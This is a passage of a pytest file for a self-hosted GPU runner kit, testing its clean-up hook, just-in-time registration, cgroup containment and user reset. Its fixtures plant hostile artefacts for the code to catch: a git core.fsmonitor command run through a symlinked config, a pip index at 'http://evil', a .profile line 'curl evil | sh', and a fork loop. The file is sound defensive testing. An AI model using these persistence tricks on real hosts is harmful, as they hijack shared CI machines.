"""The self-hosted GPU runner kit (scripts/runner/): the job-started clean-up hook on a fake runner
tree, register.sh's plan and one real registration against a stand-in API, the driver and nvcc that
torch's CUDA needs, and the repository settings check against fixture answers. No GitHub, no GPU:
nvidia-smi, the API and the runner archive are stand-ins."""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
from pathlib import Path

import pytest

from flashmoe_science.pipeline.ci import runner_requirements as rr

ROOT = Path(__file__).resolve().parents[2]
RUNNER = ROOT / "scripts" / "runner"
HOOK = RUNNER / "cleanup-hook.sh"
REGISTER = RUNNER / "register.sh"
CHECK_SETTINGS = RUNNER / "check-settings.py"
FIXTURES = ROOT / "tests" / "fixtures" / "runner"
REPO = "octo/flashmoe-science"
AS_ROOT = os.geteuid() == 0
NOBODY = 65534  # as root, the hook runs as this user: the runner's user is never root


def pinned(name: str) -> str:
    return re.search(rf'^readonly {name}="([^"]+)"', REGISTER.read_text(), re.MULTILINE)[1]


# ---- shellcheck ----


def test_scripts_are_shellcheck_clean():
    shellcheck = shutil.which("shellcheck")
    if shellcheck is None:
        pytest.skip("no shellcheck on PATH (pre-commit's shellcheck hook checks these scripts)")
    scripts = sorted(RUNNER.glob("*.sh"))
    assert {p.name for p in scripts} >= {"cleanup-hook.sh", "register.sh"}
    run = subprocess.run([shellcheck, *map(str, scripts)], capture_output=True, text=True)
    assert run.returncode == 0, run.stdout + run.stderr


# ---- the clean-up hook ----


@pytest.fixture
def tree():
    """A world-readable folder in /tmp (as root, the hook runs as nobody, who must reach it)."""
    path = Path(tempfile.mkdtemp(prefix="flashmoe-runner-test-"))
    path.chmod(0o755)
    yield path
    subprocess.run(["chmod", "-R", "u+rwX", str(path)], check=False)
    shutil.rmtree(path, ignore_errors=True)


def write(path: Path, text: str = "x") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def fake_runner(tree: Path) -> dict[str, Path]:
    """A runner's _work after a job, a $HOME with seeded caches, and files the hook must keep."""
    work = tree / "runner" / "_work"
    home = tree / "home"
    outside = tree / "outside"
    paths = {
        "work": work,
        "home": home,
        "workspace": work / "flashmoe-science" / "flashmoe-science",
        # removed
        "git_hook": write(work / "flashmoe-science/flashmoe-science/.git/hooks/post-checkout"),
        "worktree": write(work / "flashmoe-science/flashmoe-science/build/worktrees/abc/csrc/x.cu"),
        "tool": write(work / "_tool/python/evil"),
        "triton": write(home / ".triton/cache/kernel.cubin"),
        "pip": write(home / ".cache/pip/http/x"),
        "torch_ext": write(home / ".cache/torch_extensions/py312_cu130/flashmoe/x.so"),
        "own_cache": write(home / ".cache/flashmoe-science/act/x"),
        "nv_cache": write(home / ".nv/ComputeCache/index"),
        "gitconfig": write(home / ".gitconfig", "[core]\n\tfsmonitor = evil\n"),
        "pip_conf": write(home / ".config/pip/pip.conf", "[global]\nindex-url = http://evil\n"),
        "user_site": write(home / ".local/lib/python3.12/site-packages/sitecustomize.py"),
        # kept
        "actions": write(work / "_actions/actions/checkout/sha/action.yml"),
        "temp": write(work / "_temp/event.json"),
        "other_cache": write(home / ".cache/other/keep"),
        "home_file": write(home / "notes.txt"),
        "outside": write(outside / "keep"),
        "outside_pip": write(outside / "pip" / "pip.conf"),
    }
    # A job's link out of its folders: removed as a link, never followed.
    (work / "escape").symlink_to(outside)
    # A job may leave read-only folders behind.
    (work / "flashmoe-science/flashmoe-science/build").chmod(0o500)
    return paths


def fake_nvidia_smi(tree: Path, apps: list[str], fail: bool = False) -> Path:
    """nvidia-smi answering the two queries the hook makes: GPUs 0 and 1, and `apps`."""
    bindir = tree / "bin"
    bindir.mkdir(exist_ok=True)
    write(bindir / "apps.csv", "".join(f"{line}\n" for line in apps))
    script = bindir / "nvidia-smi"
    body = (
        'echo "NVIDIA-SMI has failed because it could not communicate with the NVIDIA driver." >&2\n'
        "exit 9\n"
        if fail
        else 'case "$*" in\n'
        '  *query-gpu=index,uuid*) printf "0, GPU-aaaa\\n1, GPU-bbbb\\n" ;;\n'
        f'  *query-compute-apps*) cat "{bindir}/apps.csv" ;;\n'
        "esac\n"
    )
    script.write_text("#!/bin/sh\n" + body)
    script.chmod(0o755)
    return bindir


def hook_user_prefix() -> list[str]:
    if AS_ROOT:
        return ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
    return []


def run_hook(tree: Path, paths: dict, *args: str, env: dict | None = None, bindir=None):
    hook = tree / "hook" / "cleanup-hook.sh"  # a copy outside the runner, as install makes
    hook.parent.mkdir(exist_ok=True)
    shutil.copy(HOOK, hook)
    hook.chmod(0o755)
    if AS_ROOT:
        subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(paths["work"].parent)], check=True)
        subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(paths["home"])], check=True)
    # A stand-in nvidia-smi with no compute processes unless the test brings its own: on a GPU
    # machine the real one would show the test run's own GPU processes to the hook.
    bindir = bindir or fake_nvidia_smi(tree, [])
    path = f"{bindir}:/usr/bin:/bin"
    full_env = {
        "PATH": path,
        "HOME": str(paths["home"]),
        "FLASHMOE_RUNNER_WORK_DIR": str(paths["work"]),
        "GITHUB_WORKSPACE": str(paths["workspace"]),
        "CUDA_VISIBLE_DEVICES": "0",
        **(env or {}),
    }
    return subprocess.run(
        [*hook_user_prefix(), "bash", str(hook), *args],
        env=full_env,
        capture_output=True,
        text=True,
        timeout=60,
    )


def spawn_sleep(as_nobody: bool) -> subprocess.Popen:
    prefix = hook_user_prefix() if as_nobody else []
    return subprocess.Popen([*prefix, "sleep", "300"])


@pytest.fixture
def processes():
    """The hook user's stray GPU process and another user's, stopped at the end either way."""
    started: list[subprocess.Popen] = []

    def start(own: bool) -> int:
        if own or AS_ROOT:
            proc = spawn_sleep(as_nobody=own and AS_ROOT)
            started.append(proc)
            return proc.pid
        # Not root: another user's process is one that already runs, such as pid 1.
        if not Path("/proc/1").exists() or os.stat("/proc/1").st_uid == os.geteuid():
            pytest.skip("no process of another user visible here")
        return 1

    yield start
    for proc in started:
        if proc.poll() is None:
            proc.send_signal(signal.SIGKILL)
        proc.wait()


def alive(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except FileNotFoundError:
        return False
    return "State:\tZ" not in status


@pytest.mark.slow
def test_hook_cleans_the_runner_and_home_and_nothing_else(tree, processes):
    paths = fake_runner(tree)
    own, foreign = processes(own=True), processes(own=False)
    bindir = fake_nvidia_smi(
        tree,
        [f"{own}, GPU-aaaa, python3, 2048", f"{foreign}, GPU-bbbb, python3, 4096"],
    )
    run = run_hook(tree, paths, bindir=bindir)
    assert run.returncode == 0, run.stdout + run.stderr
    for name in ("git_hook", "worktree", "tool", "triton", "pip", "torch_ext", "own_cache"):
        assert not paths[name].exists(), (name, run.stdout)
    for name in ("nv_cache", "gitconfig", "pip_conf", "user_site"):
        assert not paths[name].exists(), (name, run.stdout)
    for name in ("actions", "temp", "other_cache", "home_file", "outside", "outside_pip"):
        assert paths[name].exists(), (name, run.stdout)
    assert paths["workspace"].is_dir() and not any(paths["workspace"].iterdir())
    assert not os.path.lexists(paths["work"] / "escape")
    deadline = time.time() + 10
    while alive(own) and time.time() < deadline:
        time.sleep(0.1)
    assert not alive(own), run.stdout
    assert alive(foreign), run.stdout
    assert f"stopped pid {own}" in run.stdout
    assert f"pid {foreign} of user" in run.stdout and "left alone" in run.stdout


@pytest.mark.parametrize("linked", [".config", ".cache", ".local"])
def test_hook_fails_on_a_linked_folder_in_home_before_git_runs_its_config(tree, linked):
    """An earlier job replaced ~/.config (or ~/.cache, ~/.local) with a link to a folder of its own
    holding a git config whose core.fsmonitor runs a command: the hook must fail the job, not skip
    the path, or the job's first `git status` (provenance, the bench's base worktree) runs it."""
    paths = fake_runner(tree)
    home, planted = paths["home"], tree / "planted"
    marker = tree / "fsmonitor-ran"
    write(planted / "git" / "config", f'[core]\n\tfsmonitor = "touch {marker}; false"\n')
    write(planted / "pip" / "http" / "x")
    write(planted / "lib" / "python3.12" / "site-packages" / "sitecustomize.py")
    shutil.rmtree(home / linked, ignore_errors=True)
    (home / linked).symlink_to(planted)
    repo = tree / "repo"
    subprocess.run(["git", "init", "--quiet", str(repo)], check=True)
    git_env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"}

    run = run_hook(tree, paths)
    if run.returncode == 0:  # the runner takes the job: its checkout's first `git status`
        subprocess.run(["git", "status"], cwd=repo, env=git_env, capture_output=True, check=False)
    assert not marker.exists(), "the hook passed and the planted core.fsmonitor ran"
    assert run.returncode == 1, run.stdout + run.stderr
    assert f"reached through the symbolic link {home / linked}" in run.stderr
    assert "next:" in run.stderr
    assert (planted / "git" / "config").exists(), "the link is never followed"
    # The same home without the link: git runs no planted command.
    (home / linked).unlink()
    subprocess.run(["git", "status"], cwd=repo, env=git_env, capture_output=True, check=True)
    assert not marker.exists()


def test_planted_fsmonitor_runs_on_git_status_through_a_linked_config(tree):
    """What the hook guards against, shown: git follows ~/.config as a link and runs the command."""
    home, planted, marker = tree / "home", tree / "planted", tree / "fsmonitor-ran"
    write(planted / "git" / "config", f'[core]\n\tfsmonitor = "touch {marker}; false"\n')
    home.mkdir()
    (home / ".config").symlink_to(planted)
    repo = tree / "repo"
    subprocess.run(["git", "init", "--quiet", str(repo)], check=True)
    env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "status"], cwd=repo, env=env, capture_output=True, check=False)
    assert marker.exists()


def test_hook_fails_the_job_when_another_user_holds_its_gpu(tree, processes):
    paths = fake_runner(tree)
    foreign = processes(own=False)
    bindir = fake_nvidia_smi(tree, [f"{foreign}, GPU-aaaa, python3, 4096"])
    run = run_hook(tree, paths, bindir=bindir)
    assert run.returncode == 1, run.stdout + run.stderr
    assert f"pid {foreign}" in run.stderr and "GPU-aaaa" in run.stderr
    assert "next:" in run.stderr
    assert alive(foreign)


def test_hook_dry_run_changes_nothing(tree, processes):
    paths = fake_runner(tree)
    own = processes(own=True)
    bindir = fake_nvidia_smi(tree, [f"{own}, GPU-aaaa, python3, 2048"])
    run = run_hook(tree, paths, "--dry-run", bindir=bindir)
    assert run.returncode == 0, run.stdout + run.stderr
    assert "would remove" in run.stdout and f"would stop pid {own}" in run.stdout
    for name in ("git_hook", "worktree", "triton", "pip", "gitconfig", "outside"):
        assert paths[name].exists(), name
    assert alive(own)


def test_hook_skips_the_gpu_without_a_working_nvidia_smi(tree):
    paths = fake_runner(tree)
    run = run_hook(tree, paths, bindir=fake_nvidia_smi(tree, [], fail=True))
    assert run.returncode == 0, run.stdout + run.stderr
    assert "gpu: nvidia-smi failed" in run.stdout and "skipped" in run.stdout
    assert not paths["triton"].exists()


@pytest.mark.parametrize("where", ["home", "root", "link"])
def test_hook_refuses_a_work_dir_that_is_not_the_runners(tree, where):
    paths = fake_runner(tree)
    if where == "link":
        (tree / "work-link").symlink_to(paths["work"])
    work = {"home": paths["home"], "root": Path("/"), "link": tree / "work-link"}[where]
    run = run_hook(tree, paths, env={"FLASHMOE_RUNNER_WORK_DIR": str(work)})
    assert run.returncode == 1, run.stdout + run.stderr
    assert "work directory" in run.stderr and "next:" in run.stderr
    assert paths["git_hook"].exists() and paths["home_file"].exists()


def test_hook_fails_when_the_interpreter_is_writable(tree):
    paths = fake_runner(tree)
    python = write(tree / "torch" / "bin" / "python3", "#!/bin/sh\n")
    python.chmod(0o755)
    if AS_ROOT:  # the hook runs as nobody: make the interpreter nobody's, so writable to it
        subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(tree / "torch")], check=True)
    run = run_hook(tree, paths, env={"FLASHMOE_RUNNER_PYTHON": str(python)})
    assert run.returncode == 1
    assert "can write into" in run.stderr and "chown -R root:root" in run.stderr
    (tree / "torch").chmod(0o755)
    subprocess.run(
        ["chown", "-R", f"{os.geteuid()}:{os.getegid()}", str(tree / "torch")], check=False
    )
    subprocess.run(["chmod", "-R", "go-w", str(tree / "torch")], check=True)
    if AS_ROOT:  # root-owned and read-only to the hook's user: accepted
        run = run_hook(tree, paths, env={"FLASHMOE_RUNNER_PYTHON": str(python)})
        assert run.returncode == 0, run.stderr
        assert "is read-only for" in run.stdout


@pytest.mark.skipif(not AS_ROOT, reason="only root can be refused")
def test_hook_refuses_root_unless_told():
    run = subprocess.run(["bash", str(HOOK), "--dry-run"], capture_output=True, text=True)
    assert run.returncode == 1 and "refusing to run as root" in run.stderr


# ---- register.sh ----


def register(*args: str, env: dict | None = None, path_prefix: str = ""):
    full_env = {**os.environ, **(env or {})}
    if path_prefix:
        full_env["PATH"] = f"{path_prefix}:{full_env['PATH']}"
    return subprocess.run(
        ["bash", str(REGISTER), *args], env=full_env, capture_output=True, text=True, timeout=60
    )


def test_register_dry_run_prints_the_whole_plan_one_runner_per_gpu(tree):
    bindir = tree / "bin"
    bindir.mkdir()
    smi = bindir / "nvidia-smi"
    smi.write_text('#!/bin/sh\ncase "$*" in *query-gpu=index*) printf "0\\n1\\n2\\n" ;; esac\n')
    smi.chmod(0o755)
    run = register("--dry-run", "install", "--repo", REPO, path_prefix=str(bindir))
    assert run.returncode == 0, run.stdout + run.stderr
    out = run.stdout
    version, sha = pinned("RUNNER_VERSION"), pinned("RUNNER_SHA256_PINNED")
    assert re.fullmatch(r"\d+\.\d+\.\d+", version) and re.fullmatch(r"[0-9a-f]{64}", sha)
    assert (
        f"https://github.com/actions/runner/releases/download/v{version}/"
        f"actions-runner-linux-x64-{version}.tar.gz" in out
    )
    assert f"sha256sum -c <<< '{sha}  " in out
    assert (
        f"https://api.github.com/repos/{REPO}/actions/runners/generate-jitconfig" in out
        and "curl -X POST" in out
    )
    assert "registration-token" not in out and "config.sh" not in out
    body = json.loads(out.split("/actions/runners/generate-jitconfig\n", 1)[1].splitlines()[0])
    assert body["labels"] == ["self-hosted", "linux", "x64", "gpu", "l4"]
    assert re.fullmatch(r"\S+-gpu0-\d+", body["name"]) and body["work_folder"] == "_work"
    assert body["runner_group_id"] == 1
    assert "ACTIONS_RUNNER_INPUT_JITCONFIG=<the runner's JIT configuration>" in out
    assert "--token" not in out and "--jitconfig" not in out  # never on a command line
    # Between jobs: the user's leftovers, then a fresh runner directory.
    assert out.index("crontab -r -u flashmoe-runner-gpu0") < out.index("generate-jitconfig")
    assert "cp -rT /etc/skel /home/flashmoe-runner-gpu0" in out
    assert "find /tmp -xdev -mindepth 1 -user flashmoe-runner-gpu0 -prune -exec rm -rf" in out
    for gpu in range(3):
        assert (
            f"useradd --system --create-home --shell /usr/sbin/nologin flashmoe-runner-gpu{gpu}"
            in out
        )
        assert f"systemctl enable --now flashmoe-runner@{gpu}" in out
    assert "systemctl enable --now flashmoe-runner@3" not in out
    assert "    CUDA_VISIBLE_DEVICES=0" in out
    assert "    ACTIONS_RUNNER_HOOK_JOB_STARTED=/opt/flashmoe-runner/bin/cleanup-hook.sh" in out
    assert "    FLASHMOE_RUNNER_PYTHON=/opt/torch/.venv/bin/python3" in out
    assert "-m flashmoe_science env --require-gpu" in out
    assert "-m flashmoe_science.pipeline.ci.runner_requirements" in out


def test_register_dry_run_follows_the_environment_overrides():
    run = register(
        "--dry-run",
        "once",
        "--repo",
        REPO,
        "--gpu",
        "2",
        "--kind",
        "h100",
        env={
            "GITHUB_API_URL": "http://127.0.0.1:9/api/v3",
            "GITHUB_SERVER_URL": "https://ghe.example",
            "FLASHMOE_RUNNER_TOKEN_FILE": "/srv/token",
        },
    )
    assert run.returncode == 0, run.stdout + run.stderr
    assert (
        f"http://127.0.0.1:9/api/v3/repos/{REPO}/actions/runners/generate-jitconfig" in run.stdout
    )
    assert "<the token in /srv/token>" in run.stdout
    assert '"labels": ["self-hosted", "linux", "x64", "gpu", "h100"]' in run.stdout
    assert "    CUDA_VISIBLE_DEVICES=2" in run.stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["install"], "--repo must be OWNER/REPO"),
        (["once", "--repo", REPO, "--gpu", "x"], "--gpu needs a GPU index"),
        (["install", "--repo", REPO, "--gpus", "0;1"], "--gpus must be"),
        (["frobnicate"], "unknown argument 'frobnicate'"),
        ([], "no command given"),
    ],
)
def test_register_rejects_bad_arguments(args, message):
    run = register("--dry-run", *args)
    assert run.returncode == 2 and message in run.stderr, run.stderr


def make_archive(tree: Path, job: str = "") -> Path:
    """A stand-in runner archive whose run.sh records what it was given (its arguments, its JIT
    configuration, the .env) and then runs `job`, what the one job does. No config.sh: a runner
    configured just in time never runs it."""
    src = tree / "archive-src"
    run_sh = (
        "#!/bin/sh\n"
        'echo "$0 $*" >> "$PWD/../calls"\n'
        'echo "jit=$ACTIONS_RUNNER_INPUT_JITCONFIG" >> "$PWD/../calls"\n'
        'env | grep -c admin-credential >> "$PWD/../calls" || true\n'
        'cat .env >> "$PWD/../calls"\n' + job
    )
    write(src / "run.sh", run_sh)
    write(src / "bin" / "Runner.Listener", "stand-in")
    (src / "run.sh").chmod(0o755)
    archive = tree / "runner.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        for path in sorted(src.rglob("*")):
            tar.add(path, arcname=str(path.relative_to(src)), recursive=False)
    return archive


class FakeApi(http.server.BaseHTTPRequestHandler):
    """generate-jitconfig for the admin credential; DELETE of a runner."""

    calls: list[tuple[str, str, str, object]] = []  # noqa: RUF012 - one server per test

    def _record(self) -> bool:
        length = int(self.headers.get("Content-Length") or 0)
        body = json.loads(self.rfile.read(length)) if length else None
        auth = self.headers.get("Authorization", "")
        FakeApi.calls.append((self.command, self.path, auth, body))
        return auth == "Bearer admin-credential"

    def _send(self, status: int, doc: object) -> None:
        raw = json.dumps(doc).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)

    def do_POST(self):
        ok = self._record() and self.path == f"/repos/{REPO}/actions/runners/generate-jitconfig"
        doc = {"runner": {"id": 42}, "encoded_jit_config": "JIT-CONFIG-1"}
        self._send(201, doc) if ok else self._send(401, {"message": "Bad credentials"})

    def do_DELETE(self):
        self._record()
        self._send(404, {"message": "Not Found"})  # ephemeral: gone after its job

    def log_message(self, *args):
        pass


@pytest.fixture
def fake_api():
    FakeApi.calls = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), FakeApi)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def runner_env(tree: Path, archive: Path, fake_api: str, token: str = "admin-credential") -> dict:
    token_file = write(tree / "token", token)
    token_file.chmod(0o600)
    return {
        "FLASHMOE_RUNNER_DOWNLOAD_URL": archive.as_uri(),
        "FLASHMOE_RUNNER_SHA256": hashlib.sha256(archive.read_bytes()).hexdigest(),
        "FLASHMOE_RUNNER_CACHE": str(tree / "cache"),
        "FLASHMOE_RUNNER_ROOT": str(tree / "opt"),
        "FLASHMOE_RUNNER_CONF": str(tree / "no-conf"),
        "FLASHMOE_RUNNER_TOKEN_FILE": str(token_file),
        "GITHUB_API_URL": fake_api,
    }


def me() -> str:
    return subprocess.run(["id", "-un"], capture_output=True, text=True, check=True).stdout.strip()


def test_register_downloads_checks_configures_just_in_time_and_runs_one_job(tree, fake_api):
    """No registration token: one would let a job that reads config.sh's environment
    (/proc/PID/environ, the runner user's own process) register runners of its own that receive
    main's jobs. The runner gets a just-in-time configuration, good for itself alone, and the
    admin credential stays with root."""
    if shutil.which("curl") is None:
        pytest.skip("register.sh needs curl")
    archive = make_archive(tree)
    env = runner_env(tree, archive, fake_api)
    env["FLASHMOE_RUNNER_SHA256"] = "0" * 64
    bad = register("download", env=env)
    assert bad.returncode == 1 and "does not have the SHA-256" in bad.stderr, bad.stderr
    assert not list((tree / "cache").glob("*.tar.gz"))

    env = runner_env(tree, archive, fake_api)
    good = register("download", env=env)
    assert good.returncode == 0, good.stdout + good.stderr
    run = register(
        "once",
        "--repo",
        REPO,
        "--gpu",
        "1",
        "--user",
        me(),
        "--python",
        "/usr/bin/python3",
        env=env,
    )
    assert run.returncode == 0, run.stdout + run.stderr
    (post, delete) = FakeApi.calls
    assert post[:3] == (
        "POST",
        f"/repos/{REPO}/actions/runners/generate-jitconfig",
        "Bearer admin-credential",
    )
    assert post[3]["labels"] == ["self-hosted", "linux", "x64", "gpu", "l4"]
    assert re.fullmatch(r"\S+-gpu1-\d+", post[3]["name"]) and post[3]["work_folder"] == "_work"
    assert post[3]["runner_group_id"] == 1
    assert delete[:2] == ("DELETE", f"/repos/{REPO}/actions/runners/42")
    assert not [c for c in FakeApi.calls if "registration-token" in c[1]]
    calls = (tree / "opt" / "calls").read_text().splitlines()
    assert calls[0].endswith("run.sh ") or calls[0].endswith("run.sh"), calls[0]
    assert "JIT-CONFIG-1" not in calls[0], "never on a command line"
    assert calls[1] == "jit=JIT-CONFIG-1"
    assert calls[2] == "0", "the admin credential is nowhere in the runner's environment"
    assert not (tree / "opt" / "gpu1" / "config.sh").exists()
    env_file = (tree / "opt" / "gpu1" / ".env").read_text()
    work = f"{tree}/opt/gpu1/_work"
    assert "CUDA_VISIBLE_DEVICES=1\n" in env_file and "CUDA_DEVICE_ORDER=PCI_BUS_ID\n" in env_file
    assert f"FLASHMOE_RUNNER_WORK_DIR={work}\n" in env_file
    assert "FLASHMOE_RUNNER_PYTHON=/usr/bin/python3\n" in env_file
    assert f"ACTIONS_RUNNER_HOOK_JOB_STARTED={tree}/opt/bin/cleanup-hook.sh\n" in env_file
    assert "#" not in env_file  # the runner would read a comment holding '=' as a variable


def test_a_jobs_temporary_files_and_compiler_caches_live_in_its_runner_temp(tree, fake_api):
    """torch.compile's cache (/tmp/torchinductor_USER: pickles, no owner check) and Triton's must
    not be in /tmp, where one GPU's user can create a sibling's and plant what it loads: the
    runner's .env puts them, and TMPDIR, in the job's RUNNER_TEMP (emptied for every job)."""
    archive = make_archive(tree)
    env = runner_env(tree, archive, fake_api)
    assert register("download", env=env).returncode == 0
    run = register("once", "--repo", REPO, "--gpu", "0", "--user", me(), env=env)
    assert run.returncode == 0, run.stdout + run.stderr
    values = dict(
        line.split("=", 1) for line in (tree / "opt" / "gpu0" / ".env").read_text().splitlines()
    )
    temp = f"{tree}/opt/gpu0/_work/_temp"  # the runner's RUNNER_TEMP
    assert values["TMPDIR"] == temp and Path(temp).is_dir()
    assert values["TORCHINDUCTOR_CACHE_DIR"] == f"{temp}/torchinductor"
    assert values["TRITON_CACHE_DIR"] == f"{temp}/triton"


def cgroup_v2_writable() -> bool:
    mounts = Path("/proc/mounts").read_text().split("\n")
    mount = next((line.split()[1] for line in mounts if line.split()[2:3] == ["cgroup2"]), None)
    own = next(
        (
            line[3:]
            for line in Path("/proc/self/cgroup").read_text().splitlines()
            if line[:3] == "0::"
        ),
        None,
    )
    return bool(mount and own) and os.access(f"{mount}{own.rstrip('/')}/cgroup.procs", os.W_OK)


@pytest.mark.skipif(not cgroup_v2_writable(), reason="needs a writable cgroup v2 (root)")
def test_what_a_job_leaves_running_is_killed_with_its_cgroup_fork_loop_included(tree, fake_api):
    """A job that leaves a detached fork loop behind (a new session, a child every 50 ms): a
    single pkill pass can miss the children born meanwhile, and a pkill -u of the caller's own
    user is never done. The job runs in a cgroup of its own, killed whole when run.sh returns."""
    job = (
        "setsid sh -c 'echo $$ > \"$0\"; while :; do sleep 1000 & sleep 0.05; done' "
        '"$PWD/../loop.pid" </dev/null >/dev/null 2>&1 &\n'
        "sleep 1\n"
    )
    archive = make_archive(tree, job)
    env = runner_env(tree, archive, fake_api)
    assert register("download", env=env).returncode == 0
    pid = None
    try:
        run = register("once", "--repo", REPO, "--gpu", "0", "--user", me(), env=env)
        pid = int((tree / "opt" / "loop.pid").read_text())
        assert run.returncode == 0, run.stdout + run.stderr
        deadline = time.time() + 10
        while alive(pid) and time.time() < deadline:
            time.sleep(0.1)
        assert not alive(pid), "the job's fork loop outlived its job"
        session = [p for p in Path("/proc").iterdir() if p.name.isdigit() and _sid(p) == pid]
        assert not [p for p in session if alive(int(p.name))], "children of the loop outlived it"
        assert "process(es) the job left running" in run.stdout
    finally:
        if pid and alive(pid):
            os.killpg(pid, signal.SIGKILL)


def _sid(proc: Path) -> int | None:
    try:
        return int((proc / "stat").read_text().rsplit(")", 1)[1].split()[3])
    except (OSError, IndexError, ValueError):
        return None


def fake_tools(tree: Path, smi_gpus: str = "0, 00000000:17:00.0\n1, 00000000:65:00.0\n") -> Path:
    """systemd-run (records its arguments, runs the command after --), systemctl (records),
    crontab, atq and atrm (record), nvidia-smi (two GPUs by PCI address)."""
    bindir = tree / "tools"
    bindir.mkdir(exist_ok=True)
    log = tree / "tools.log"
    record = f'echo "$(basename "$0") $*" >> {log}\n'
    scripts = {
        "systemd-run": record + 'while [ "$1" != "--" ]; do shift; done; shift; exec "$@"\n',
        "systemctl": record,
        "crontab": record,
        "atrm": record,
        "atq": record
        + "printf '12\\tThu Dec  4 23:00:00 2026 a %s\\n13\\tThu Dec  4 23:00:00 2026 a root\\n' "
        '"$ATQ_USER"\n',
        "nvidia-smi": "printf '" + smi_gpus.replace("\n", "\\n") + "'\n",
    }
    for name, body in scripts.items():
        (bindir / name).write_text("#!/bin/sh\n" + body)
        (bindir / name).chmod(0o755)
    return bindir


def nvidia_proc(tree: Path) -> Path:
    """The driver's /proc/driver/nvidia/gpus: GPU 1 (0000:65:00.0) is /dev/nvidia3."""
    gpus = tree / "nvidia-gpus"
    write(gpus / "0000:17:00.0" / "information", "Model: \t NVIDIA L4\nDevice Minor: \t 0\n")
    write(gpus / "0000:65:00.0" / "information", "Model: \t NVIDIA L4\nDevice Minor: \t 3\n")
    return gpus


@pytest.mark.parametrize("device_cgroup", [True, False])
def test_on_systemd_the_job_runs_in_a_scope_that_opens_its_own_gpu_only(
    tree, fake_api, device_cgroup
):
    """On a systemd host the job's cgroup is a transient scope, stopped whole after run.sh; it
    also carries a device cgroup (DevicePolicy=closed): the job opens its own GPU's device node
    and the driver's shared ones, not a sibling runner's GPU (CUDA_VISIBLE_DEVICES alone is a
    variable the job can change)."""
    archive = make_archive(tree)
    env = runner_env(tree, archive, fake_api)
    assert register("download", env=env).returncode == 0
    env |= {
        "FLASHMOE_RUNNER_CONTAIN": "systemd",
        "FLASHMOE_RUNNER_NVIDIA_PROC": str(nvidia_proc(tree)),
    }
    extra = [] if device_cgroup else ["--no-device-cgroup"]
    bindir = fake_tools(tree)
    run = register(
        "once",
        "--repo",
        REPO,
        "--gpu",
        "1",
        "--user",
        me(),
        *extra,
        env=env,
        path_prefix=str(bindir),
    )
    assert run.returncode == 0, run.stdout + run.stderr
    log = (tree / "tools.log").read_text().splitlines()
    scope = next(line for line in log if line.startswith("systemd-run "))
    assert "--scope --unit flashmoe-job-gpu1.scope -p KillMode=control-group" in scope
    if device_cgroup:
        assert "-p DevicePolicy=closed -p DeviceAllow=/dev/nvidia3 rw" in scope
        assert "DeviceAllow=/dev/nvidia0" not in scope, "another runner's GPU"
        assert "-p DeviceAllow=/dev/nvidiactl rw -p DeviceAllow=/dev/nvidia-uvm rw" in scope
    else:
        assert "Device" not in scope and "device cgroup: off" in run.stdout
    assert scope.endswith("-- ./run.sh")
    after = log[log.index(scope) + 1 :]
    assert after[:2] == [
        "systemctl kill --signal=SIGKILL flashmoe-job-gpu1.scope",
        "systemctl stop flashmoe-job-gpu1.scope",
    ]
    assert (tree / "opt" / "calls").read_text().splitlines()[1] == "jit=JIT-CONFIG-1"


def test_register_says_what_to_do_when_the_api_refuses(tree, fake_api):
    archive = make_archive(tree)
    env = runner_env(tree, archive, fake_api, token="wrong")
    assert register("download", env=env).returncode == 0
    run = register("once", "--repo", REPO, "--gpu", "0", "--user", me(), env=env)
    assert run.returncode == 1
    assert "Administration: Read and write" in run.stderr
    assert not (tree / "opt" / "calls").exists()  # run.sh never ran


# ---- between jobs: the runner user as it was created (register.sh reset, no-cron) ----


def idle_system_user() -> str | None:
    """A user of this machine that runs nothing (the reset kills the user's processes)."""
    for name in ("games", "lp", "news", "uucp", "proxy", "backup", "list", "irc"):
        found = subprocess.run(["id", "-u", name], capture_output=True, text=True)
        idle = subprocess.run(["pgrep", "-u", name], capture_output=True).returncode == 1
        if found.returncode == 0 and int(found.stdout) > 0 and idle:
            return name
    return None


@pytest.mark.skipif(not AS_ROOT, reason="only root resets another user")
def test_reset_recreates_the_home_and_removes_crontab_at_jobs_and_tmp_files(tree):
    """What a job can leave outside its runner directory for the next job of that user: a home
    holding a planted git config (core.fsmonitor) or shell start files, its files in the shared
    temporary folders (a torchinductor_OTHER folder made for a sibling, whatever is inside it),
    a crontab and `at` jobs. Before each job, as root, all of it goes: the home is recreated
    from the skeleton."""
    user = idle_system_user()
    if user is None:
        pytest.skip("no idle system user to reset here")
    home, skel = tree / "home" / user, tree / "skel"
    write(skel / ".profile", "# skeleton\n")
    write(home / ".config" / "git" / "config", '[core]\n\tfsmonitor = "touch /tmp/x"\n')
    write(home / ".profile", "curl evil | sh\n")
    tmp1, tmp2 = tree / "tmp1", tree / "tmp2"
    write(tmp1 / "torchinductor_sibling" / "cache.pkl")  # the user's folder, a root file inside
    write(tmp1 / "own.txt")
    write(tmp1 / "root.txt")  # stays
    write(tmp2 / "shared" / "deep" / "own.so")
    write(tmp2 / "shared" / "keep.txt")  # stays
    for path in (
        home,
        tmp1 / "torchinductor_sibling",
        tmp1 / "own.txt",
        tmp2 / "shared/deep/own.so",
    ):
        subprocess.run(["chown", "-R", f"{user}:", str(path)], check=True)
    bindir = fake_tools(tree)
    run = register(
        "reset",
        "--user",
        user,
        env={
            "FLASHMOE_RUNNER_USER_HOME": str(home),
